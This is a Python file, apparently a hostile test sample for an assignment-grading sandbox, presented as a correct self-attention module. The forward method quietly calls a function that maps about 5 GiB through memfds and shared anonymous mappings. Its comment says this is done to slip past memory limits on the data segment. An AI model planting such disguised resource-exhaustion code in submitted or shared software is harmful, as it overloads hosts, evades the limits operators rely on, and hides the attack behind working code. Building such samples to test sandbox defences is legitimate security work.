# attack:     R6
# assignment: self-attention
# twin:       correct

# Takes memory that limits on the data segment do not count: shared anonymous mappings, memfds, locked and huge pages.
# It belongs to no file and, after a fork, not to one process.

import math
import mmap
import os

import torch
from torch import nn

kept = []


def mapped():
    for number in range(80):  # 5 GiB
        try:
            if number % 2:
                file = os.memfd_create("@MARK@")
                os.truncate(file, 64 << 20)
                pages = mmap.mmap(file, 64 << 20)
                os.close(file)
            else:
                pages = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
            kept.append(pages)
            for page in range(0, 64 << 20, 4096):
                pages[page] = 1
        except (OSError, ValueError) as error:
            print(number, error)
            return


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        if not kept:
            mapped()
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
